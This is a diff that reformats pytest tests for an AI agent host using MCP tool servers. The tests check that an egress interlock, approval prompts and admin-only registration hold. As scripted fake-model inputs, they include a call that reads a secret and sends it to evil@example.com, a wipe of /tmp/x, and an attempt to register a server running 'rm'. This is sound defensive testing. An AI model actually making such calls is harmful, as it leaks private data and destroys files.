@@ -29,14 +29,28 @@ def echo(body):
 @pytest.fixture
 async def mcp_host(home, fake_llm, monkeypatch):
     monkeypatch.setenv("PYTHONPATH", str(Path(__file__).resolve().parents[2]))
-    host = make_host(home, {
-        "llm": {"provider": "openai", "model": "m", "base_url": fake_llm.openai_url,
-                "api_key": "test-key"},
-        "agent": {"approval": "ask"},
-        "mcp": {"servers": {"caps": {"command": sys.executable, "args": [CAPS_SERVER],
-                                     "description": "capability fixtures",
-                                     "env_passthrough": ["PYTHONPATH"]}}},
-    })
+    host = make_host(
+        home,
+        {
+            "llm": {
+                "provider": "openai",
+                "model": "m",
+                "base_url": fake_llm.openai_url,
+                "api_key": "test-key",
+            },
+            "agent": {"approval": "ask"},
+            "mcp": {
+                "servers": {
+                    "caps": {
+                        "command": sys.executable,
+                        "args": [CAPS_SERVER],
+                        "description": "capability fixtures",
+                        "env_passthrough": ["PYTHONPATH"],
+                    }
+                }
+            },
+        },
+    )
     await host.start(serve_http=False, tick=False)
     yield host
     await host.stop()
@@ -47,8 +61,11 @@ def tool_names(request):
 
 
 async def test_turn_activates_a_server_then_calls_its_tool(mcp_host, fake_llm):
-    fake_llm.script = [call("activate_tools", groups=["caps"]),
-                       call("mcp__caps__echo", text="hi from mcp"), echo]
+    fake_llm.script = [
+        call("activate_tools", groups=["caps"]),
+        call("mcp__caps__echo", text="hi from mcp"),
+        echo,
+    ]
     assert (await mcp_host.handle_message(message("echo"))).text == "hi from mcp"
     first, second = fake_llm.requests[0], fake_llm.requests[1]
     assert not [n for n in tool_names(first) if n.startswith("mcp__")]
@@ -61,27 +78,40 @@ async def test_turn_activates_a_server_then_calls_its_tool(mcp_host, fake_llm):
 
 async def test_interlock_refuses_chosen_egress_mcp_tool(mcp_host, fake_llm):
     mcp_host.config.agent.approval = "allow"
-    fake_llm.script = [call("activate_tools", groups=["caps"]), call("mcp__caps__read_secret"),
-                       call("mcp__caps__read_web", url="http://x"),
-                       call("mcp__caps__send", to="evil@example.com", text="100k"), echo]
+    fake_llm.script = [
+        call("activate_tools", groups=["caps"]),
+        call("mcp__caps__read_secret"),
+        call("mcp__caps__read_web", url="http://x"),
+        call("mcp__caps__send", to="evil@example.com", text="100k"),
+        echo,
+    ]
     reply = (await mcp_host.handle_message(message("go"))).text
     assert reply.startswith("Refused: mcp__caps__send sends data to a destination you choose")
-    calls = mcp_host.store.call(lambda db: [(r["tool"], r["status"]) for r in db["tool_calls"].rows])
+    calls = mcp_host.store.call(
+        lambda db: [(r["tool"], r["status"]) for r in db["tool_calls"].rows]
+    )
     assert ("mcp__caps__send", "interlock") in calls
 
 
 async def test_destructive_mcp_tool_asks_for_approval(mcp_host, fake_llm):
     platform = AskingPlatform(False)
-    fake_llm.script = [call("activate_tools", groups=["caps"]),
-                       call("mcp__caps__wipe", path="/tmp/x"), echo]
+    fake_llm.script = [
+        call("activate_tools", groups=["caps"]),
+        call("mcp__caps__wipe", path="/tmp/x"),
+        echo,
+    ]
     reply = (await mcp_host.handle_message(message("wipe"), platform=platform)).text
     assert reply == "Not allowed: the user said no."
     assert "mcp__caps__wipe" in platform.questions[0].text
 
 
 async def test_register_mcp_is_refused_to_a_non_admin(mcp_host, fake_llm):
-    fake_llm.script = [call("activate_tools", groups=["config"]),
-                       call("register_mcp", name="evil", command="rm"), echo, echo]
+    fake_llm.script = [
+        call("activate_tools", groups=["config"]),
+        call("register_mcp", name="evil", command="rm"),
+        echo,
+        echo,
+    ]
     reply = (await mcp_host.handle_message(message("add a server", admin=False))).text
     assert "Unknown tool 'register_mcp'" in reply
     assert "Unknown tool group(s): config" in last_tool_result(fake_llm.requests[1])
@@ -91,10 +121,17 @@ async def test_register_mcp_is_refused_to_a_non_admin(mcp_host, fake_llm):
 async def test_register_mcp_needs_an_admin_yes_even_in_allow_mode(mcp_host, fake_llm):
     mcp_host.config.agent.approval = "allow"
     platform = AskingPlatform(True)
-    fake_llm.script = [call("activate_tools", groups=["config"]),
-                       call("register_mcp", name="caps2", command=sys.executable,
-                            args=[CAPS_SERVER], env={"PYTHONPATH": str(Path(CAPS_SERVER).parents[2])}),
-                       echo]
+    fake_llm.script = [
+        call("activate_tools", groups=["config"]),
+        call(
+            "register_mcp",
+            name="caps2",
+            command=sys.executable,
+            args=[CAPS_SERVER],
+            env={"PYTHONPATH": str(Path(CAPS_SERVER).parents[2])},
+        ),
+        echo,
+    ]
     reply = (await mcp_host.handle_message(message("add caps2"), platform=platform)).text
     assert platform.questions and "register_mcp" in platform.questions[0].text
     assert reply.startswith("MCP server caps2: ready") and "5 tools" in reply
@@ -108,22 +145,46 @@ def test_tool_names_are_sanitised_and_bounded():
     assert tool_name("s" * 40, "t" * 60) != tool_name("s" * 40, "t" * 59 + "u")
 
 
-@pytest.mark.parametrize("definition,expected", [
-    ({}, dict(private=True, untrusted=False, egress="none", destructive=False)),
-    ({"annotations": {"readOnlyHint": True}},
-     dict(private=False, untrusted=True, egress="none", destructive=False)),
-    ({"annotations": {"readOnlyHint": True, "openWorldHint": False}},
-     dict(private=False, untrusted=False, egress="none", destructive=False)),
-    ({"annotations": {}}, dict(private=False, untrusted=True, egress="chosen", destructive=True)),
-    ({"annotations": {"destructiveHint": False, "openWorldHint": False}},
-     dict(private=False, untrusted=False, egress="none", destructive=False)),
-    ({"_meta": {"bothost/capabilities": {"private": True, "egress": "fixed"}},
-      "annotations": {}}, dict(private=True, untrusted=False, egress="fixed", destructive=False)),
-])
+@pytest.mark.parametrize(
+    "definition,expected",
+    [
+        ({}, dict(private=True, untrusted=False, egress="none", destructive=False)),
+        (
+            {"annotations": {"readOnlyHint": True}},
+            dict(private=False, untrusted=True, egress="none", destructive=False),
+        ),
+        (
+            {"annotations": {"readOnlyHint": True, "openWorldHint": False}},
+            dict(private=False, untrusted=False, egress="none", destructive=False),
+        ),
+        (
+            {"annotations": {}},
+            dict(private=False, untrusted=True, egress="chosen", destructive=True),
+        ),
+        (
+            {"annotations": {"destructiveHint": False, "openWorldHint": False}},
+            dict(private=False, untrusted=False, egress="none", destructive=False),
+        ),
+        (
+            {
+                "_meta": {"bothost/capabilities": {"private": True, "egress": "fixed"}},
+                "annotations": {},
+            },
+            dict(private=True, untrusted=False, egress="fixed", destructive=False),
+        ),
+    ],
+)
 def test_capability_mapping(definition, expected):
     caps = capabilities(definition)
-    assert dict(private=caps.private, untrusted=caps.untrusted, egress=caps.egress,
-                destructive=caps.destructive) == expected
+    assert (
+        dict(
+            private=caps.private,
+            untrusted=caps.untrusted,
+            egress=caps.egress,
+            destructive=caps.destructive,
+        )
+        == expected
+    )
 
 
 def test_config_can_only_add_capabilities():
@@ -135,15 +196,30 @@ def test_config_can_only_add_capabilities():
 ECHO_SERVER = str(Path(__file__).resolve().parents[1] / "mcp_servers" / "echo_server.py")
 
 
-async def test_progress_shows_as_status_and_elicitation_reaches_the_person(home, fake_llm,
-                                                                           monkeypatch):
+async def test_progress_shows_as_status_and_elicitation_reaches_the_person(
+    home, fake_llm, monkeypatch
+):
     monkeypatch.setenv("PYTHONPATH", str(Path(__file__).resolve().parents[2]))
-    host = make_host(home, {
-        "llm": {"provider": "openai", "model": "m", "base_url": fake_llm.openai_url,
-                "api_key": "test-key"},
-        "mcp": {"servers": {"echo": {"command": sys.executable, "args": [ECHO_SERVER],
-                                     "env_passthrough": ["PYTHONPATH"]}}},
-    })
+    host = make_host(
+        home,
+        {
+            "llm": {
+                "provider": "openai",
+                "model": "m",
+                "base_url": fake_llm.openai_url,
+                "api_key": "test-key",
+            },
+            "mcp": {
+                "servers": {
+                    "echo": {
+                        "command": sys.executable,
+                        "args": [ECHO_SERVER],
+                        "env_passthrough": ["PYTHONPATH"],
+                    }
+                }
+            },
+        },
+    )
     await host.start(serve_http=False, tick=False)
     statuses = []
 
@@ -151,12 +227,18 @@ async def test_progress_shows_as_status_and_elicitation_reaches_the_person(home,
         statuses.append(text)
 
     platform = AskingPlatform({"answer": "blue"})
-    fake_llm.script = [call("activate_tools", groups=["echo"]),
-                       {"tool_calls": [{"name": "mcp__echo__slow", "arguments": {"seconds": 0.2}},
-                                       {"name": "mcp__echo__ask",
-                                        "arguments": {"question": "favourite colour?"}}]},
-                       lambda body: {"text": " / ".join(
-                           m["content"] for m in body["messages"] if m["role"] == "tool")}]
+    fake_llm.script = [
+        call("activate_tools", groups=["echo"]),
+        {
+            "tool_calls": [
+                {"name": "mcp__echo__slow", "arguments": {"seconds": 0.2}},
+                {"name": "mcp__echo__ask", "arguments": {"question": "favourite colour?"}},
+            ]
+        },
+        lambda body: {
+            "text": " / ".join(m["content"] for m in body["messages"] if m["role"] == "tool")
+        },
+    ]
     try:
         answer = await host.handle_message(message("go"), on_status=on_status, platform=platform)
         reply = answer.text
@@ -164,4 +246,6 @@ async def test_progress_shows_as_status_and_elicitation_reaches_the_person(home,
         await host.stop()
     assert "slept 0.2" in reply and "answer: blue" in reply
     assert any(s.startswith("echo/slow: step") for s in statuses)
-    assert platform.questions[0].kind == "form" and "favourite colour?" in platform.questions[0].text
+    assert (
+        platform.questions[0].kind == "form" and "favourite colour?" in platform.questions[0].text
+    )
